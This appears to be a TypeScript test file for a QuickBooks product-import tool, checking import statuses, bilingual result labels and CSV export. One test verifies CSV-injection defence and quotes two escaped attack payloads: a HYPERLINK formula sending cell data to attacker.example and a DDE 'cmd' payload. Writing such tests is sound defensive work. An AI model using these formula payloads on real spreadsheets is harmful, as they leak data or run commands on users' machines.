import { readFileSync } from "node:fs";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { createI18n } from "~/i18n/instance";
import { resources } from "~/i18n/resources";
import { indexExisting, planImport } from "./plan/plan";
import { understandFile } from "./pipeline";
import {
  AI_STATUS_KEYS,
  AI_STATUSES,
  DB_STATUS_KEYS,
  DB_STATUSES,
  FINAL_STATUS_KEYS,
  FINAL_STATUSES,
  PLANNED_ACTION_KEYS,
  resultRowsBeforeWrite,
  resultsCsv,
} from "./results";

const fixture = (name: string) => readFileSync(`tests/fixtures/quickbooks/${name}`);

async function understood(name: string) {
  const result = await understandFile(fixture(name));
  if (!result.ok) throw new Error(`${name} was refused`);
  return result.rows;
}

function lookup(lang: "en" | "es", key: string): unknown {
  return key
    .split(".")
    .reduce<unknown>((node, part) => (node as Record<string, unknown> | undefined)?.[part], resources[lang].import);
}

const translator = (lang: "en" | "es") => {
  const t = createI18n(lang).getFixedT(lang, "import") as unknown as (
    key: string,
    values?: Record<string, string | number>,
  ) => string;
  return (key: string, values?: Record<string, string | number>) => t(key, values);
};

describe("section 4's statuses", () => {
  it("has every AI, database and final status of the specification, each worded in both languages", () => {
    expect([...AI_STATUSES].sort()).toEqual(
      ["pending", "success", "error", "skipped_not_a_product", "skipped_known_non_product_code"].sort(),
    );
    expect([...DB_STATUSES].sort()).toEqual(["pending", "success", "error", "skipped"].sort());
    expect([...FINAL_STATUSES].sort()).toEqual(
      [
        "success",
        "error_ai",
        "error_db_product",
        "error_db_price",
        "skipped_not_a_product",
        "skipped_service_item",
        "skipped_known_non_product_code",
        "skipped_invalid_description",
        "processed_inactive",
        "error_system",
        "unknown_error",
        "pending",
      ].sort(),
    );
    const keys = [
      ...Object.values(AI_STATUS_KEYS),
      ...Object.values(DB_STATUS_KEYS),
      ...Object.values(FINAL_STATUS_KEYS),
      ...Object.values(PLANNED_ACTION_KEYS),
    ];
    for (const key of keys) {
      expect(typeof lookup("en", key), key).toBe("string");
      expect(typeof lookup("es", key), key).toBe("string");
    }
    // Each final status reads differently from the others.
    expect(new Set(Object.values(FINAL_STATUS_KEYS).map((k) => lookup("en", k))).size).toBe(12);
    expect(new Set(Object.values(FINAL_STATUS_KEYS).map((k) => lookup("es", k))).size).toBe(12);
  });
});

describe("resultRowsBeforeWrite", () => {
  it("gives every row of qbo_small.csv its AI status, pending or skipped database statuses and final status", async () => {
    const rows = await understood("qbo_small.csv");
    const results = resultRowsBeforeWrite(rows, planImport(rows), "en");
    expect(results).toHaveLength(69);
    const row = (n: number) => results.find((r) => r.row === n)!;
    expect(row(1)).toEqual({
      row: 1,
      item: "AVO48",
      name: "Hass Avocado",
      productId: null,
      aiStatus: "success",
      dbProductStatus: "pending",
      dbPriceStatus: "pending",
      finalStatus: "pending",
      messages: [],
      planned: "create",
    });
    // The inactive item is written (as inactive) and says so.
    expect(row(7)).toMatchObject({
      item: "MANGO KENT 8 (deleted)",
      aiStatus: "success",
      finalStatus: "pending",
      dbProductStatus: "pending",
      messages: [{ key: "engine.messages.inactiveItem", values: {} }],
    });
    // The first TOMATILLO loses to the later row: nothing of it is written, and its message says why.
    expect(row(19)).toMatchObject({
      item: "TOMATILLO",
      planned: "skip",
      dbProductStatus: "skipped",
      dbPriceStatus: "skipped",
      messages: [{ key: "engine.messages.duplicateSuperseded", values: { row: 32 } }],
    });
    expect(row(32).messages).toEqual([
      { key: "engine.messages.duplicateItem", values: { item: "TOMATILLO", firstRow: 19 } },
    ]);
    const skipped = results.filter((r) => r.finalStatus.startsWith("skipped_"));
    expect(skipped).toHaveLength(20);
    for (const r of skipped) {
      expect(r).toMatchObject({ dbProductStatus: "skipped", dbPriceStatus: "skipped", planned: "skip", name: null });
    }
    expect(new Set(skipped.map((r) => r.aiStatus))).toEqual(
      new Set(["skipped_not_a_product", "skipped_known_non_product_code"]),
    );
  });

  it("carries the matched product's id, and skips the price of a row without one", async () => {
    const rows = await understood("qbo_small.csv");
    const existing = indexExisting([{ id: "p-avo48", quickbooksId: "AVO48", sku: "AVO-48", priceCents: 5400 }]);
    const results = resultRowsBeforeWrite(rows, planImport(rows, existing), "en");
    expect(results[0]).toMatchObject({ productId: "p-avo48", planned: "unchanged" });
    const noPrice = { ...rows[1], priceCents: null };
    const [second] = resultRowsBeforeWrite([noPrice], planImport([noPrice]), "en");
    expect(second).toMatchObject({ dbProductStatus: "pending", dbPriceStatus: "skipped" });
  });

  it("shows a row the writer would refuse with the status and the reason it will get", async () => {
    const rows = await understood("qbo_small.csv");
    const existing = indexExisting([
      { id: "p-avo48", quickbooksId: "AVO48", sku: "AVO-48", priceCents: 100, archived: true, name: "Avocados" },
    ]);
    const [first] = resultRowsBeforeWrite(rows, planImport(rows, existing), "en");
    expect(first).toMatchObject({
      productId: "p-avo48",
      planned: "error",
      finalStatus: "error_db_price",
      dbProductStatus: "skipped",
      dbPriceStatus: "error",
    });
    expect(first.messages.at(-1)?.key).toBe("run.messages.archivedPrice");
  });
});

describe("resultsCsv", () => {
  it("neutralises the formulas of csv_injection.csv in every cell, in both languages", async () => {
    const rows = await understood("bad/csv_injection.csv");
    const results = resultRowsBeforeWrite(rows, planImport(rows), "en");
    for (const lang of ["en", "es"] as const) {
      const text = resultsCsv(results, translator(lang));
      expect(text.startsWith("\uFEFF")).toBe(true);
      const parsed = Papa.parse<string[]>(text.slice(1).trimEnd(), { newline: "\r\n" }).data;
      expect(parsed).toHaveLength(results.length + 1);
      for (const line of parsed) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const items = parsed.slice(1).map((line) => line[1]);
      expect(items).toContain(`'=HYPERLINK("http://attacker.example/?d="&A1,"Click for price list")`);
      expect(items).toContain("'=cmd|' /C notepad'!'A1'");
    }
  });

  it("writes translated headers, statuses and messages", async () => {
    const rows = await understood("qbo_small.csv");
    const results = resultRowsBeforeWrite(rows, planImport(rows), "en");
    const [header, first, , , , , , seventh] = Papa.parse<string[]>(
      resultsCsv(results, translator("es")).slice(1).trimEnd(),
      { newline: "\r\n" },
    ).data;
    expect(header).toEqual([
      "Fila",
      "Artículo de QuickBooks",
      "Nombre procesado por IA",
      "ID del producto",
      "Estado de IA",
      "Producto en la base de datos",
      "Precio en la base de datos",
      "Plan",
      "Estado final",
      "Mensaje",
    ]);
    expect(first).toEqual([
      "1",
      "AVO48",
      "Hass Avocado",
      "",
      "Procesado",
      "Pendiente",
      "Pendiente",
      "Nuevo",
      "Pendiente",
      "",
    ]);
    expect(seventh[9]).toBe("Inactivo en QuickBooks: se guarda como producto inactivo.");
  });

  it("leaves the plan column out of results that have none", () => {
    const text = resultsCsv(
      [
        {
          row: 1,
          item: "AVO48",
          name: "Hass Avocado",
          productId: "p1",
          aiStatus: "success",
          dbProductStatus: "success",
          dbPriceStatus: "error",
          finalStatus: "error_db_price",
          messages: [],
        },
      ],
      translator("en"),
    );
    expect(text).toBe(
      "\uFEFFRow,QuickBooks item,AI-processed name,Product ID,AI status,Product in database,Price in database,Final status,Message\r\n" +
        "1,AVO48,Hass Avocado,p1,Processed,Saved,Error,Error saving the price,\r\n",
    );
  });
});
